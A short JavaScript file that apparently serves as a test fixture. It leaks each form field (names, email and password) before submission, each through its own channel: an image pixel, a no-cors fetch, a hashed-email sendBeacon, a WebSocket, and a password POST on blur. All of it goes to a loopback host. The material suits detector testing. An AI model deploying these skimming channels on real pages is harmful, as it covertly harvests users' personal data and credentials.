// Each field leaves in its own way, none by the form.
const tiers = `//localhost:${location.port}`;
const champ = (nom, envoi) => document.querySelector(`[name=${nom}]`).addEventListener('change', ({ target }) => envoi(target.value));
champ('prenom', (valeur) => { new Image().src = `${tiers}/p.gif?d=${btoa(encodeURIComponent(JSON.stringify({ id: 7, prenom: valeur })))}`; });
champ('nom', (valeur) => fetch(`${tiers}/nom`, { method: 'POST', mode: 'no-cors', body: new Blob([JSON.stringify({ nom: valeur })]) }));
champ('m', (valeur) => {
  // SHA-256 needs a secure context, which loopback is.
  crypto.subtle.digest('SHA-256', new TextEncoder().encode(valeur.trim().toLowerCase())).then((brut) => {
    const hexa = [...new Uint8Array(brut)].map((octet) => octet.toString(16).padStart(2, '0')).join('');
    navigator.sendBeacon(`${tiers}/h/${hexa}`);
  });
});
champ('n', (valeur) => { new WebSocket(`ws:${tiers}/canal`).onopen = ({ target }) => target.send(JSON.stringify({ ne: valeur })); });
document.querySelector('[name=p]').addEventListener('blur', ({ target }) => fetch('force', { method: 'POST', body: target.value }));
document.querySelector('button').addEventListener('focus', () => {});
